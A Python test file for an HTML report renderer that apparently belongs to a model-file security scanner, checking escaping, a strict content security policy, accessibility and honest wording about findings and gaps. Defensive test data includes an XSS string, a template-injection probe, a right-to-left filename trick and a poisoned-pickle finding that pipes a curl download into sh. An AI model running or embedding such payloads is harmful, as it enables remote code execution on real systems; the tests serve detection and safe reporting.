# SPDX-License-Identifier: Apache-2.0
"""The page for people, as a document: whole, escaped, accessible, bounded."""

import base64
import hashlib
import re
from html.parser import HTMLParser

import pytest

from steelyard.report.html import render
from tests.samples import dossiers

VOID = {"meta", "rect", "path", "img", "br", "hr", "link"}


class Document(HTMLParser):
    """The elements of a page, each with its attributes and the text directly inside."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str], list[str]]] = []
        self._open: list[tuple[str, dict[str, str], list[str]]] = []
        self.feed(text)
        self.close()
        assert self._open == []

    def handle_starttag(self, tag, attrs) -> None:
        element = (tag, dict(attrs), [])
        self.elements.append(element)
        if tag not in VOID:
            self._open.append(element)

    def handle_startendtag(self, tag, attrs) -> None:
        self.elements.append((tag, dict(attrs), []))

    def handle_endtag(self, tag) -> None:
        assert self._open.pop()[0] == tag

    def handle_data(self, data) -> None:
        if self._open:
            self._open[-1][2].append(data)

    def all(self, tag: str) -> list[tuple[str, dict[str, str], list[str]]]:
        return [element for element in self.elements if element[0] == tag]

    def texts(self, tag: str) -> list[str]:
        return [" ".join("".join(text).split()) for _, _, text in self.all(tag)]


@pytest.fixture(scope="module", params=dossiers.ALL, ids=lambda make: make.__name__)
def document(request) -> Document:
    return Document(render(request.param()))


def test_it_runs_nothing_and_asks_for_nothing(document) -> None:
    assert not {tag for tag, _, _ in document.elements} & {
        "script",
        "link",
        "img",
        "iframe",
        "object",
        "embed",
        "form",
        "base",
        "audio",
        "video",
    }
    for _, attributes, _ in document.elements:
        assert not [name for name in attributes if name.startswith("on") or name == "style"]
        assert "src" not in attributes
        assert attributes.get("href", "#").startswith("#")


def test_its_policy_allows_its_own_style_and_nothing_else(document) -> None:
    (style,) = (text for _, _, text in document.all("style"))
    hashed = base64.b64encode(hashlib.sha256("".join(style).encode()).digest()).decode()
    (policy,) = (
        attributes["content"]
        for _, attributes, _ in document.all("meta")
        if attributes.get("http-equiv") == "Content-Security-Policy"
    )
    assert policy == (
        f"default-src 'none'; style-src 'sha256-{hashed}'; base-uri 'none'; form-action 'none'"
    )
    assert "url(" not in "".join(style) and "@import" not in "".join(style)


def test_every_link_leads_somewhere_and_every_id_is_there_once(document) -> None:
    ids = [attributes["id"] for _, attributes, _ in document.elements if "id" in attributes]
    assert len(ids) == len(set(ids))
    broken = {
        attributes["href"]
        for _, attributes, _ in document.all("a")
        if attributes["href"].removeprefix("#") not in ids
    }
    assert broken == set()


def test_the_verdict_is_the_one_heading_of_the_page_and_every_section_has_its_own(document) -> None:
    assert len(document.all("h1")) == 1
    optional = {"Weights", "Scores"}  # only where there is something to say
    assert [text for text in document.texts("h2") if text not in optional] == [
        "Why",
        "Findings",
        "Not assessed",
        "Licence",
        "Lineage",
        "Footprint",
        "Files",
        "Evidence",
        "What this does not mean",
    ]


def test_every_chart_has_a_title_a_description_and_a_table(document) -> None:
    charts = [attributes for _, attributes, _ in document.all("svg") if "role" in attributes]
    ids = {attributes.get("id"): text for _, attributes, text in document.elements}
    for chart in charts:
        assert all("".join(ids[id]).strip() for id in chart["aria-labelledby"].split())
    bars = [chart for chart in charts if chart.get("class") == "bars"]
    figures = [a for _, a, _ in document.all("table") if a.get("class") == "figures"]
    forests = [a for _, a, _ in document.all("figure") if a.get("class") == "chart forest"]
    assert len(figures) == len(bars) - len(forests) + bool(forests)  # one holds all scores
    trees = [a for _, a, _ in document.all("div") if a.get("class") == "tree"]
    assert len(trees) == len(charts) - len(bars)


def test_hostile_text_stays_text() -> None:
    text = render(dossiers.hostile())
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
    assert "{{7*7}}" in text and "49" not in Document(text).texts("h1")[0]
    assert all(char.isprintable() or char == "\n" for char in text)
    assert r"\u202egnp.exe" in text


def test_a_poisoned_model_is_told_place_trail_and_remedy() -> None:
    document = Document(render(dossiers.poisoned()))
    assert document.texts("h1") == ["poisoned-neighbour fails the policy baseline."]
    codes = document.texts("code")
    assert {"optimizer.bin", "archive/data.pkl"} <= set(codes)
    assert "412: REDUCE posix.system('curl -s http://203.0.113.7/x | sh')" in codes
    paragraphs = document.texts("p")
    assert "Do not load this file; ask the author for safetensors weights." in paragraphs


def test_what_was_not_assessed_is_shown_as_loudly_as_a_finding() -> None:
    text = render(dossiers.poisoned())
    shapes = re.findall(
        r'<article class="kind (\w+)">\n<header>\n<p class="tag">([\w ]+)</p>', text
    )
    assert ("critical", "critical") in shapes
    assert ("gap", "not assessed") in shapes


def test_no_findings_and_no_gaps_are_said_in_words() -> None:
    text = render(dossiers.sound())
    assert "None. These probes looked to the end: footprint, gguf, licence" in text
    assert "No probe left anything out" in text


def test_no_findings_without_a_look_are_not_an_all_clear() -> None:
    text = render(dossiers.empty())
    assert "None. No probe looked to the end." in text
    assert "No rule was judged, so nothing is known." in text
    assert "Nothing is known of its licence. That is not a permission." in text


def test_a_pass_says_what_it_does_not_mean() -> None:
    text = render(dossiers.sound())
    assert "The model was read, not run" in text
    assert "No finding is no proof" in text


def test_the_chart_and_its_table_say_the_same() -> None:
    text = render(dossiers.sound())
    assert ">161 MiB, worst 361 MiB<" in text
    row = re.search(r"<tr><th scope=\"row\">2,048 tokens</th>(.*)</tr>", text)[1]
    assert re.findall(r"<td>(.*?)</td>", row) == [
        "92.1 MiB",
        "45.0 MiB",
        "102 MiB",
        "161 MiB",
        "361 MiB",
    ]


def test_bars_stay_inside_their_chart() -> None:
    for make in (dossiers.sound, dossiers.odd, dossiers.hostile):
        for x, width in re.findall(r'x="([-\d.]+)%" y="\d+" width="([-\d.]+)%"', render(make())):
            assert 0 <= float(x) <= 100
            assert 0 <= float(width) <= 100.01 - float(x)


def test_a_very_large_dossier_is_a_page_that_opens() -> None:
    text = render(dossiers.crowded())
    assert len(text) < 1_000_000
    assert "90 more kinds of findings, not on this page" in text
    assert "49,975 more places, not on this page" in text
    assert "4,700 more files, not on this page" in text


def test_a_dossier_from_files_becomes_a_page(tmp_path) -> None:
    text = render(dossiers.checked(tmp_path / "a-model"))
    assert "a-model" in Document(text).texts("title")[0]
    assert 'class="path">blob.bin' in text


def test_relations_of_weights_and_scores_have_their_sections() -> None:
    page = Document(render(dossiers.measured()))
    assert [text for text in page.texts("h2") if text in ("Weights", "Scores")] == [
        "Weights",
        "Scores",
    ]
    assert "quantised from" in page.texts("dt")
    assert "org/base-1b" in page.texts("b")
    titles = page.texts("figcaption")
    assert {"acc, with 95 % intervals", "acc_norm, with 95 % intervals"} <= set(titles)
    assert "0.4512" in page.texts("text")
    assert "(0.4300 to 0.4700, n 14,042)" in page.texts("tspan")
    assert "0.4300 to 0.4700" in page.texts("td")
    plain = Document(render(dossiers.sound())).texts("h2")
    assert "Weights" not in plain and "Scores" not in plain
